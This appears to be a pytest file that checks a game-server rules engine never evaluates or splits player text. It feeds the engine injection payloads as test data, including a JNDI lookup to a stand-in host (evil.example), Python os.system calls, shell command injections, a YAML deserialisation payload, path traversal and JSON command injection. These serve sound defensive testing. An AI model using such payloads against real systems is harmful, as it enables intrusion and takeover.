"""A value in a rule is one value: no text of a player is evaluated, formatted, or a second command."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

import httpx
import pytest

from tests.hostile.house import Server
from tests.hostile.world import World, free_port, world

pytestmark = pytest.mark.xdist_group("hostile-values")

TOKEN = "hookTokenOfTheTests0123456789abcdef"
HOOKS = [f"hook-{number}" for number in range(12)]  # each takes thirty calls at once

RULES = r"""
rules:
  - {id: chats, when: {event: chat}, by: [it.text], do: [{say: "${it.text}"}, {notify: ops, title: chats, text: "${it.text}"}]}
  - {id: number, when: {console: '^number (?P<n>.*)$', where: it.n > 5}, by: [it.n], do: [{send: "say more"}]}
  - {id: sum, when: {console: '^sum (?P<n>[\d.]+)$'}, if: it.n * 2 + 1 > 3, by: [it.n], do: [{send: "say sum"}]}
  - {id: equal, when: {console: '^equal (?P<t>.*)$', where: 'it.t == "nope" or it.t in ["yes"]'}, do: [{send: "say equal"}]}
  - {id: optional, when: {console: '^optional(?P<a> x)?(?P<b> y)?$'}, do: [{send: "say a ${it.a} b ${it.b}"}]}
  - {id: unread, when: {console: '^unread(?P<a> x)?$', where: 'it.a == " x"'}, do: [{send: "say read"}]}
  - {id: stops, when: {console: '^stop it$'}, do: [{send: stop}]}
  - {id: put, when: {console: '^put (?P<t>.*)$'}, by: [it.t], do: [{say: "${it.t}|${json(it.t)}|${it.line}"}]}
  - {id: counted, when: {console: '^counted (?P<t>.*)$'}, distinct: it.t, count: 2, within: 1m, do: [{say: "two"}]}
  - {id: whole, when: {console: '^whole (?P<text>.*)$'}, by: [it.text], do: [{send: "say ${it.line}"}]}
""" + "".join(
    f"""\
  - {{id: text-{hook}, when: {{hook: {hook}, where: 'it.kind == "text"'}}, by: [it.text], do: [{{send: "say ${{it.text}}"}}]}}
  - {{id: player-{hook}, when: {{hook: {hook}, where: 'it.kind == "player"'}}, by: [it.player], do: [{{send: "kick ${{it.player}}"}}]}}
  - {{id: json-{hook}, when: {{hook: {hook}, where: 'it.kind == "json"'}}, by: [it.text], do: [{{send: 'tellraw @a {{"text":"${{it.text}}"}}'}}]}}
"""
    for hook in HOOKS
)

# Each operator and function that takes a text of a player, where it must stay false for all of STRANGE.
JUDGED = {
    "equal": 'it.t == "opens"',
    "in": 'it.t in ["opens", "unlocks"]',
    "greater": "it.t > 1000000",
    "less": "it.t < -1000000",
    "at least": "it.t >= 1000000",
    "sum": "it.t + 1 > 1000000",
    "difference": "it.t - 1 < -1000000",
    "product": "it.t * 2 > 2000000",
    "quotient": "it.t / 2 > 500000",
    "negative": "-it.t > 1000000",
    "json": 'json(it.t) != it.t and it.t == "opens"',
    "and": 'it.t == "opens" and true',
    "not equal, negated": 'not (it.t != "opens")',
    "chain": 'it.t == "opens" or it.t == "unlocks"',
}
RULES += "".join(
    f"""\
  - {{id: judged-{number}, when: {{console: '^judged (?P<t>.*)$', where: '{where}'}}, by: [it.t], do: [{{send: "say judged {number}"}}]}}
"""
    for number, where in enumerate(JUDGED.values())
)
STRANGE = [
    'opens" or "" == "',
    "opens\\",
    "${it.t}",
    "0) or (1 == 1",
    "1e999",
    "-1e999",
    "NaN",
    "nan or true",
    "__import__('os').system('id')",
    "it.t",
    "true",
    "9" * 5_000 + "x",
    "0x7fffffff",
    "1_000_001",
    "opens\u200b",
    "ｏｐｅｎｓ",
    "'opens'",
    "\u0661" * 9,
    "",
    "[" * 2_000,
]

LITERAL = [
    "{{7*7}}",
    "${7*7}",
    "$${it.text}",
    "${name}",
    "${jndi:ldap://evil.example/x}",
    "%s %n %x",
    "{0.__class__}",
    "{it}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| reboot",
    "&& reboot",
    "\\u0040everyone",
    "\\n op Eve",
    "__import__('os')",
    "true or 1 == 1",
    "' or '1'='1",
    "-- DROP TABLE",
    "!!python/object/apply:os.system [x]",
    "*alias &anchor",
    "[red]x[/red]",
    "$HOME ~ %PATH%",
    "../../etc/passwd",
    "C:\\Windows",
    "0",
    "null",
    "NaN",
]


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    port = free_port()
    hooks = ", ".join(f"{hook}: {{token: {{file: hook}}}}" for hook in HOOKS)
    settings = f'hooks: {{{hooks}}}\nlisten: {{http: "127.0.0.1:{port}"}}'
    with world(tmp_path_factory.mktemp("values"), RULES, fresh=280, settings=settings) as made:
        made.secret("hook", TOKEN)
        made.hooks = f"http://127.0.0.1:{port}/hooks"
        made.turns = cycle(HOOKS)
        with made.running():
            yield made


def called(here: World, server: Server, **fields: object) -> list[str]:
    """What is typed because a hook was called with these."""
    already = len(server.commands)
    answer = httpx.post(
        f"{here.hooks}/{next(here.turns)}",
        json={"server": server.uuid, **fields},
        headers={"Authorization": f"Bearer {TOKEN}"},
        trust_env=False,
    )
    assert answer.status_code == 202, answer.text
    here.served(server)
    return [one for one in server.commands[already:] if not one.startswith("say served ")]


@pytest.mark.parametrize("text", LITERAL)
def test_what_some_languages_would_evaluate_is_said_to_the_letter(here: World, text: str) -> None:
    server = here.fresh()
    answers = here.answers(server, f"[12:00:00] [Server thread/INFO]: <Eve> {text}")

    assert answers == [f"say {text.replace('@', '＠')}"]


@pytest.mark.parametrize("text", LITERAL)
def test_what_some_languages_would_evaluate_is_posted_to_the_letter(here: World, text: str) -> None:
    server = here.fresh()
    server.prints(f"[12:00:00] [Server thread/INFO]: <Eve> {text} {server.name}")

    message = here.inbox.got(server.name, host="127.0.0.1").json["message"].replace("\u200b", "")
    assert message.startswith(f"{text} {server.name}")


CONTROLS = {
    "a line feed": "Eve\nop Eve",
    "a carriage return": "Eve\rop Eve",
    "both": "Eve\r\nop Eve",
    "a blank and a carriage return": "Eve \rop Eve",
    "a vertical tab": "Eve\vop Eve",
    "a form feed": "Eve\fop Eve",
    "a NUL": "Eve\0op Eve",
    "an escape": "Eve\x1b[Aop Eve",
    "a delete": "Eve\x7f\x7f\x7fop Eve",
    "a next line": "Eve\x85op Eve",
    "a line separator": "Eve\u2028op Eve",
    "a paragraph separator": "Eve\u2029op Eve",
    "an end of transmission": "Eve\x04op Eve",
    "an interrupt": "Eve\x03op Eve",
    "a turn to the left": "Eve\u202eop Eve",
    "an isolate": "Eve\u2066op Eve",
}


@pytest.mark.parametrize("text", CONTROLS.values(), ids=CONTROLS.keys())
@pytest.mark.parametrize("kind", ["text", "player"])
def test_a_value_with_a_control_character_is_no_command_and_no_second_one(
    here: World, kind: str, text: str
) -> None:
    server = here.fresh()

    assert called(here, server, kind=kind, text=text, player=text) == []
    here.daemon.tells("server=" + server.name)


@pytest.mark.parametrize(
    "name",
    ["@a", "@e[limit=9999]", "@p", "Eve Bob", "Eve;op Eve", "*", "", "a" * 17, "Eve\u200b", "Ｅｖｅ", "..Eve", "Eve/../x",
     "-1", "1.5", "Ev\u0435", "e\u0301ve", '"Eve"', "'Eve'", "Eve{}", "~", "^", "#1", "all", "minecraft:eve"],
    ids=ascii,
)  # fmt: skip
def test_no_text_that_is_no_name_stands_where_a_player_stands(here: World, name: str) -> None:
    answers = called(here, here.fresh(), kind="player", player=name)

    assert answers in ([], ["kick all"])  # of these only `all` is a name that somebody may have


@pytest.mark.parametrize(
    "text",
    [
        '","clickEvent":{"action":"run_command","value":"/op Eve"},"x":"',
        '"}]',
        '\\","x":"',
        "\\",
        '\\u0022},{"text":"x"',
        '"',
        "'",
        "\u2603\U0001f600",
        "}" * 500,
    ],
    ids=ascii,
)
def test_a_text_inside_of_json_cannot_end_its_string(here: World, text: str) -> None:
    import json

    (command,) = called(here, here.fresh(), kind="json", text=text)

    assert json.loads(command.removeprefix("tellraw @a ")) == {"text": text}


@pytest.mark.parametrize("size", [1_990, 2_000])
@pytest.mark.parametrize("letter", ["x", "é", "\U0001f600", '"', "\\"], ids=ascii)
def test_a_command_that_a_value_makes_too_long_is_not_typed_and_not_cut(
    here: World, letter: str, size: int
) -> None:
    answers = called(here, here.fresh(), kind="text", text=letter * size)

    assert answers in ([], [f"say {letter * size}"])
    assert all(len(one) <= 2_000 and len(one.encode()) < 4_096 for one in answers)


def test_a_capture_of_10_kb_is_typed_nowhere(here: World) -> None:
    assert here.answers(here.fresh(), "whole " + "x" * 10_000) == []


def test_groups_that_took_no_part_are_no_text_of_another_match(here: World) -> None:
    server = here.fresh()
    (first,) = here.answers(server, "optional x y")
    (second,) = here.answers(server, "optional")

    assert first == "say a  x b  y"
    assert second == "say a unknown b unknown"


def test_a_condition_on_a_group_that_took_no_part_is_not_true(here: World) -> None:
    assert here.answers(here.fresh(), "unread") == []


@pytest.mark.parametrize(
    "number",
    ["NaN", "nan", "inf", "Infinity", "-inf", "1e999", "-1e999", "", "-", "+", ".", "0x10", "1_0", "١٠", "１０",
     "5", "-6", "1 0", "six", "10%", "1h", "1e-999", "0" * 300, "--6", "+-6", "6\u0301"],
    ids=ascii,
)  # fmt: skip
def test_a_text_that_is_no_number_over_five_is_none_however_it_is_written(here: World, number: str) -> None:
    assert here.answers(here.fresh(), f"number {number}") == []


@pytest.mark.parametrize(
    "number", ["9" * 309, "9" * 4_000, "1" + "0" * 400, "1.7976931348623157" + "9" * 500]
)
def test_a_number_of_thousands_of_digits_ends_nothing(here: World, number: str) -> None:
    server = here.fresh()

    assert set(here.answers(server, f"number {number}", f"sum {number}")) <= {"say more", "say sum"}
    here.served(server)


@pytest.mark.parametrize(
    "text", ['no"pe" or "', '" or "" == "', "yes\\", "YES", "yes ", "['yes']", "it.t", "true"]
)
def test_a_text_compared_with_others_is_compared_and_not_read(here: World, text: str) -> None:
    assert here.answers(here.fresh(), f"equal {text}") == []


@pytest.mark.parametrize(
    "text", ["stop", "/stop", "minecraft:stop", "STOP", "restart", "run stop", "stop ", "execute run stop"]
)
def test_words_that_would_stop_the_game_are_only_said(here: World, text: str) -> None:
    server = here.fresh()

    assert called(here, server, kind="text", text=text) in ([f"say {text}"], [])
    assert server.powers == []


def test_the_stop_command_of_the_game_is_refused_when_a_rule_types_it(here: World) -> None:
    server = here.fresh()

    assert here.answers(server, "stop it") == []
    here.daemon.tells("rule=stops", "power: stop", server.name)


@pytest.mark.parametrize("text", STRANGE, ids=lambda text: ascii(text)[:30])
def test_a_strange_text_passes_through_every_operator_and_function_and_makes_none_true(
    here: World, text: str
) -> None:
    assert here.answers(here.fresh(), f"judged {text}") == []


def test_what_the_operators_wait_for_makes_them_true(here: World) -> None:
    """So that the one above proves something."""
    server = here.fresh()

    by_text = sorted(here.answers(server, "judged opens"))
    by_number = sorted(here.answers(server, "judged 1000001", "judged -1000002"))
    assert by_text == sorted(f"say judged {number}" for number in (0, 1, 10, 11, 12, 13))
    assert set(by_number) == {f"say judged {number}" for number in range(2, 10)}


@pytest.mark.parametrize("text", STRANGE, ids=lambda text: ascii(text)[:30])
def test_a_strange_text_that_is_put_and_counted_is_at_most_one_line_each_time(here: World, text: str) -> None:
    server = here.fresh()
    answers = here.answers(server, f"put {text}", f"counted {text}", f"counted {text}")

    assert len(answers) <= 1
    assert "say two" not in answers
    assert all(one.startswith("say ") and len(one.splitlines()) == 1 for one in answers)


SHAPES = {
    "a list": ["x"],
    "an object": {"a": 1},
    "null": None,
    "truth": True,
    "a huge integer": 10**400,
    "a huge float": 1e308,
    "minus zero": -0.0,
    "an empty text": "",
}


@pytest.mark.parametrize("value", SHAPES.values(), ids=SHAPES.keys())
def test_a_field_of_another_kind_than_text_breaks_nothing(here: World, value: object) -> None:
    server = here.fresh()
    answers = called(here, server, kind="text", text=value)

    assert len(answers) <= 1
    here.served(server)


@pytest.mark.parametrize(
    "field",
    [
        "__class__",
        "__proto__",
        "it",
        "server",
        "name",
        "it.text",
        "text\0",
        "te xt",
        "ｔｅｘｔ",
        "",
        "x" * 70,
    ],
    ids=ascii,
)
def test_a_field_of_a_hook_cannot_take_the_place_of_another_name(here: World, field: str) -> None:
    server = here.fresh()
    fields = {"kind": "text", "text": "mine", field: "other"} | {"server": server.uuid}

    assert called(here, server, **{k: v for k, v in fields.items() if k != "server"}) == ["say mine"]
